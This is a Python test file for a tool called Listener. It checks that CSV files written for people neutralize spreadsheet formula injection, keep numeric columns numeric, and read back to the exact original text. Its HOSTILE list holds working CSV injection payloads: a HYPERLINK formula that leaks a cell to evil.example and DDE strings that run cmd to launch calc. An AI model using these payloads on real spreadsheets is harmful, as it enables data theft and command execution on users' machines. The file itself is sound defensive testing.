"""Spreadsheet formula injection: every CSV Listener writes for people (the label queue,
`listener predict` output) neutralizes text cells that a spreadsheet would run as a formula, keeps
numbers as numbers, and reads its own files back to exactly the text that was written."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import numpy as np
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from transforms import csv_cells, schema
from transforms.erasure.derived_files import erase_labels, labels_dir
from transforms.erasure.report import ErasureReport
from transforms.erasure.subject import Subject
from transforms.label_queue import write_label_queue
from transforms.tables import read_table
from transforms.training import predict_file, read_labels

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted by someone",
    "''@two quotes",
    "-",
    "= spaced",
    "@NimbusHelp my bill doubled",  # a reply starting with a handle: common, and a trigger
    "-5% off, best deal",
]
HARMLESS = ["plain text", "'tis the season", "a = b", "-0.5", "+3", "1e5", "😀 =1"]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))


def is_safe(cell: str) -> bool:
    """What a spreadsheet will not evaluate: no formula start, or a plain number."""
    return not cell.startswith(FORMULA_START) or cell in HARMLESS


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_cell_is_neutralized_and_comes_back(text):
    frame = pl.DataFrame({"text": [text]})
    (header, (cell,)) = cells(csv_cells.csv_bytes(frame))
    assert header == ["text"]
    assert cell == "'" + text and is_safe(cell)
    assert csv_cells.read_csv(io.BytesIO(csv_cells.csv_bytes(frame)))["text"][0] == text


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_and_plain_numbers_are_written_as_they_are(text):
    data = csv_cells.csv_bytes(pl.DataFrame({"text": [text]}))
    assert cells(data) == [["text"], [text]]
    assert csv_cells.read_csv(io.BytesIO(data))["text"].to_list() == [text]


def test_numeric_columns_stay_numbers():
    frame = pl.DataFrame(
        {
            "text": ["-1+1"],
            "score": [-0.5],
            "count": [-3],
            "day": [dt.date(2026, 10, 1)],
        }
    )
    (header, row) = cells(csv_cells.csv_bytes(frame))
    assert dict(zip(header, row, strict=True)) == {
        "text": "'-1+1",
        "score": "-0.5",
        "count": "-3",
        "day": "2026-10-01",
    }


@given(st.text(alphabet=st.sampled_from("=+-@\t\r'a1 .e\n\",;"), max_size=12) | st.text())
def test_any_text_round_trips_and_is_never_a_formula(text):
    written = csv_cells.neutralized(pl.DataFrame({"t": [text]}, schema={"t": pl.String}))["t"][0]
    assert csv_cells.restored(pl.DataFrame({"t": [written]}))["t"][0] == text
    if written.startswith(FORMULA_START):  # only a plain number may start like a formula
        assert written == text and re.fullmatch(csv_cells.PLAIN_NUMBER, text)


# --- the files Listener writes for people --------------------------------------------------------


def _classified_day(config, texts: list[str]) -> None:
    """A classified clean-zone day holding `texts`, the model unsure about each."""
    partition = config.data_dir / "clean" / "day=2026-10-01"
    partition.mkdir(parents=True)
    n = len(texts)
    values = {name: [None] * n for name in schema.CLASSIFIED_POST}
    values.update(
        post_id=[f"x:{i}" for i in range(n)], day=[dt.date(2026, 10, 1)] * n, platform=["x"] * n,
        text_clean=texts, content_hash=[str(i) for i in range(n)], is_english=[True] * n,
        sentiment=["neutral"] * n, p_negative=[0.3] * n, p_neutral=[0.4] * n,
        p_positive=[0.3] * n, intent=["other"] * n, intent_confidence=[0.5] * n,
    )  # fmt: skip
    posts = pl.DataFrame(values, schema=schema.CLASSIFIED_POST)
    posts.select(list(schema.CLEAN_POST)).write_parquet(partition / "posts.parquet")
    posts.select(list(schema.CLASSIFICATION)).write_parquet(partition / "classifications.parquet")


def test_the_label_queue_is_safe_in_a_spreadsheet_and_trains_on_the_exact_texts(config):
    texts = HOSTILE + [f"{t} again" for t in HOSTILE]
    _classified_day(config, texts)
    out = config.data_dir / "queue.csv"
    assert write_label_queue(config, "sentiment", len(texts), out) == len(texts)

    header, *rows = cells(out.read_bytes())
    assert all(is_safe(cell) for row in rows for cell in row), rows
    confidence = [float(row[header.index("confidence")]) for row in rows]
    assert confidence == [0.4] * len(texts)  # numbers untouched

    # A person fills the label column (here: alternating labels), then `listener train`.
    filled = pl.read_csv(out, infer_schema=False).with_columns(
        label=pl.when(pl.int_range(pl.len()) % 2 == 0).then(pl.lit("negative"))
        .otherwise(pl.lit("positive"))
    )  # fmt: skip
    filled.write_csv(out)  # as a spreadsheet saves it: the quotes stay in the cells
    labelled = read_labels(out, "text", "label", "sentiment")
    assert sorted(labelled["text"]) == sorted(texts)


class Stub:
    """A classifier that says `neutral` for everything, for the file contract only."""

    classes = ["negative", "neutral", "positive"]

    def predict(self, texts: pl.Series):
        proba = np.tile([0.25, 0.5, 0.25], (len(texts), 1))
        return np.array(["neutral"] * len(texts)), proba


@pytest.mark.parametrize("input_kind", ["csv", "parquet"])
def test_predict_output_is_safe_and_round_trips(tmp_path, input_kind):
    texts = HOSTILE + HARMLESS
    frame = pl.DataFrame({"text": texts, "score": [-0.5] * len(texts)})
    source = tmp_path / f"in.{input_kind}"
    if input_kind == "csv":
        source.write_bytes(csv_cells.csv_bytes(frame))  # Listener's own CSV as input
    else:
        frame.write_parquet(source)
    output = tmp_path / "out.csv"
    assert predict_file(Stub(), source, "text", output) == len(texts)

    header, *rows = cells(output.read_bytes())
    assert header == ["text", "score", "label", "proba_negative", "proba_neutral", "proba_positive"]
    assert all(is_safe(cell) for row in rows for cell in row)
    assert {row[1] for row in rows} == {"-0.5"}  # a number in a number column stays a number
    assert read_table(output)["text"].fill_null("").to_list() == texts


def test_erasure_finds_a_neutralized_text_in_the_labels(config):
    folder = labels_dir(config)
    folder.mkdir(parents=True)
    frame = pl.DataFrame({"text": [HOSTILE[0], "keep me"], "label": ["negative", "neutral"]})
    (folder / "sentiment.csv").write_bytes(csv_cells.csv_bytes(frame))
    subject = Subject(author_id="t2_gone", platform=None, texts={HOSTILE[0]})
    report = ErasureReport(request_id="r", subject_hash="h", hash_method="m", platform=None)
    erase_labels(config, subject, report)
    assert report.removed["label_rows"] == 1
    assert read_table(folder / "sentiment.csv")["text"].to_list() == ["keep me"]
